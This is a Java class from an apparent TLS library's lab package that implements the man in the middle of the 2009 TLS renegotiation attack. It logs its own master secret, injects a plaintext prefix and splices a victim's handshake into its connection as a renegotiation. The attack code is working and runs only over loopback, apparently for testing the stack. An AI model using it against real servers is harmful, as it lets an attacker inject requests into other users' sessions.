package org.layeredtls.handshake.lab;

import java.io.Closeable;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.util.Arrays;
import java.util.concurrent.atomic.AtomicReference;

import org.layeredtls.handshake.api.SessionInfo;
import org.layeredtls.handshake.api.TlsConfig;
import org.layeredtls.handshake.api.TlsObserver;
import org.layeredtls.handshake.api.TlsSocket;
import org.layeredtls.handshake.message.HandshakeMessage;
import org.layeredtls.handshake.message.ServerHello;
import org.layeredtls.record.ContentType;
import org.layeredtls.record.RecordLimits;

/**
 * The man in the middle of the renegotiation attack (Ray and Dispensa, 2009): it opens its own TLS
 * connection to the server, sends its prefix as application data, and then, when the victim connects
 * to it, sends the victim's handshake inside its own connection, where the server takes it for a
 * renegotiation. Until the victim's ChangeCipherSpec its records are sealed with the attacker's keys,
 * and the server's answers opened for the victim; after the two ChangeCipherSpecs, the new keys are
 * the victim's and the server's only, and the attacker forwards their records as they are. It never
 * learns those keys, and it does not need them: the server already put its prefix in front of
 * whatever the victim sends.
 */
final class PrefixInjector implements Closeable {

    private final Socket toServer;
    private final ServerSocket forVictim;
    private final AttackerRecordLayer records;
    private final SessionInfo session;

    private PrefixInjector(Socket toServer, AttackerRecordLayer records, SessionInfo session) throws IOException {
        this.toServer = toServer;
        this.records = records;
        this.session = session;
        this.forVictim = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
    }

    /**
     * The attacker's own handshake with the server ({@code client}: its configuration), done with this stack;
     * the keys come from the master secret it logs.
     */
    static PrefixInjector connect(int serverPort, TlsConfig.Builder client) throws IOException {
        AtomicReference<byte[]> clientRandom = new AtomicReference<>();
        AtomicReference<byte[]> masterSecret = new AtomicReference<>();
        AtomicReference<byte[]> serverRandom = new AtomicReference<>();
        TlsObserver keyLog = new TlsObserver() {
            @Override
            public void masterSecretDerived(byte[] random, byte[] secret) {
                clientRandom.set(random.clone());
                masterSecret.set(secret.clone());
            }

            @Override
            public void handshakeMessageReceived(HandshakeMessage message, byte[] bytes) {
                if (message instanceof ServerHello hello) {
                    serverRandom.set(hello.random());
                }
            }
        };
        Socket socket = new Socket(InetAddress.getLoopbackAddress(), serverPort);
        try {
            socket.setSoTimeout(LabServer.READ_TIMEOUT_MILLIS);
            // Not closed on purpose: closing would send close_notify on the connection the attacker takes over.
            TlsSocket own = TlsSocket.client(socket, "127.0.0.1", serverPort, client.observer(keyLog).build());
            SessionInfo session = own.session();
            // Each side has sent one record under the new keys: its Finished (RFC 5246 §7.4.9).
            return new PrefixInjector(socket, new AttackerRecordLayer(session.version(), session.cipherSuite(),
                    masterSecret.get(), clientRandom.get(), serverRandom.get(), 1, 1), session);
        } catch (IOException | RuntimeException e) {
            socket.close();
            throw e;
        }
    }

    /** What the attacker's own handshake agreed on. */
    SessionInfo session() {
        return session;
    }

    /** Where the victim is led to connect. */
    int victimPort() {
        return forVictim.getLocalPort();
    }

    /** Sends {@code prefix} as application data on the attacker's own connection. */
    void inject(byte[] prefix) throws IOException {
        OutputStream out = toServer.getOutputStream();
        out.write(records.seal(ContentType.APPLICATION_DATA, session.version(), prefix));
        out.flush();
    }

    /** Accepts the victim and splices its connection into the attacker's, until either side ends. */
    void spliceVictim() throws IOException {
        forVictim.setSoTimeout(LabServer.READ_TIMEOUT_MILLIS);
        try (Socket victim = forVictim.accept()) {
            victim.setSoTimeout(LabServer.READ_TIMEOUT_MILLIS);
            Thread serverToVictim = new Thread(() -> pump(toServer, victim, false), "lab splice server -> victim");
            serverToVictim.setDaemon(true);
            serverToVictim.start();
            pump(victim, toServer, true);
            try {
                serverToVictim.join(LabServer.READ_TIMEOUT_MILLIS);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        }
    }

    /**
     * Moves records from {@code from} to {@code to}: through the attacker's keys up to and including the
     * sender's ChangeCipherSpec (sealed towards the server, opened towards the victim), then as they are.
     */
    private void pump(Socket from, Socket to, boolean towardsServer) {
        boolean changedCipherSpec = false;
        try {
            InputStream in = from.getInputStream();
            OutputStream out = to.getOutputStream();
            byte[] record;
            while ((record = AttackerRecordLayer.readRecord(in)) != null) {
                if (!changedCipherSpec) {
                    ContentType type = ContentType.fromCode(record[0] & 0xFF);
                    changedCipherSpec = type == ContentType.CHANGE_CIPHER_SPEC;
                    // Inside the attacker's connection every record carries its negotiated version (RFC 5246 §6.2.1),
                    // not the {3,1} a first ClientHello's record may carry.
                    record = towardsServer ? records.seal(type, session.version(),
                            Arrays.copyOfRange(record, RecordLimits.HEADER_LENGTH, record.length)) : records.open(record);
                }
                out.write(record);
                out.flush();
            }
        } catch (IOException ended) {
            // one side closed, reset or timed out: the splice is over
        } finally {
            try {
                if (towardsServer) {
                    to.shutdownOutput();
                } else {
                    to.close();
                }
            } catch (IOException alreadyClosed) {
                // nothing left to end
            }
        }
    }

    @Override
    public void close() throws IOException {
        forVictim.close();
        toServer.close();
    }
}
